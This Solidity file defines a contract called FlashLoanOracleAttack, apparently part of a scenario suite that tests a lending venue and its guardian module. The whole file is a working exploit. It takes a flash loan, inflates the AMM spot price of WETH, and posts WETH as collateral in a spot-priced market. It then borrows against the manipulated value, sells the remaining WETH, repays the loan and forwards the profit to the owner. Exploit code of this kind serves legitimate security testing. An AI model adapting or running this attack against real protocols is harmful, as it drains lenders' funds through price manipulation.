// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {FlashLender} from "../venue/FlashLender.sol";
import {VenuePair, VenueRouter} from "../venue/Amm.sol";
import {MarginPool} from "../venue/MarginPool.sol";
import {AttestedCaller} from "../guardian/AttestedEntry.sol";

/// @title FlashLoanOracleAttack
/// @notice Scenario 1, one transaction: flash-borrow stablecoins, buy WETH on the pair to inflate its spot price,
/// post part of the WETH as collateral in the spot-priced market, borrow against the inflated value, sell the
/// rest of the WETH back, repay the flash loan and keep the difference.
contract FlashLoanOracleAttack is IERC3156FlashBorrower, AttestedCaller {
    FlashLender public immutable lender;
    VenuePair public immutable pair;
    VenueRouter public immutable router;
    MarginPool public immutable pool;
    IERC20 public immutable usd;
    IERC20 public immutable weth;
    address public immutable owner;

    error NotOwner();
    error BadCaller();
    error NoProfit(uint256 balance, uint256 owed);

    constructor(FlashLender lender_, VenuePair pair_, VenueRouter router_, MarginPool pool_, IERC20 usd_, IERC20 weth_) {
        lender = lender_;
        pair = pair_;
        router = router_;
        pool = pool_;
        usd = usd_;
        weth = weth_;
        owner = msg.sender;
    }

    /// @param flashAmount stablecoins to flash-borrow and swap into WETH
    /// @param collateralBps share of the bought WETH posted as collateral, in basis points
    /// @param marketId the spot-priced market
    function attack(uint256 flashAmount, uint256 collateralBps, uint256 marketId) external returns (uint256 profit) {
        if (msg.sender != owner) revert NotOwner();
        lender.flashLoan(this, address(usd), flashAmount, abi.encode(collateralBps, marketId));
        profit = usd.balanceOf(address(this));
        usd.transfer(owner, profit);
    }

    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata data)
        external
        override
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) revert BadCaller();
        (uint256 collateralBps, uint256 marketId) = abi.decode(data, (uint256, uint256));

        usd.approve(address(router), type(uint256).max);
        uint256 bought = router.swapExactIn(pair, address(usd), amount, 0, address(this));

        uint256 collateral = bought * collateralBps / 10_000;
        weth.approve(address(pool), collateral);
        pool.supplyCollateral(marketId, collateral, address(this));
        pool.borrow(marketId, maxBorrow(marketId, collateral), address(this));

        weth.approve(address(router), bought - collateral);
        router.swapExactIn(pair, address(weth), bought - collateral, 0, address(this));

        uint256 owed = amount + fee;
        uint256 balance = usd.balanceOf(address(this));
        if (balance < owed) revert NoProfit(balance, owed);
        usd.approve(address(lender), owed);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// @notice The most the market lends against `collateral` at the current (manipulated) price.
    function maxBorrow(uint256 marketId, uint256 collateral) public view returns (uint256) {
        MarginPool.Market memory m = pool.market(marketId);
        uint256 value = collateral * pool.collateralPrice(marketId) / m.collateralScale;
        uint256 power = value * m.params.ltvBps / 10_000 * 10_000 / (10_000 + m.params.borrowFeeBps);
        uint256 available = pool.cash(marketId);
        uint256 amount = power > 0 ? power - 1 : 0;
        return amount < available ? amount : available;
    }
}
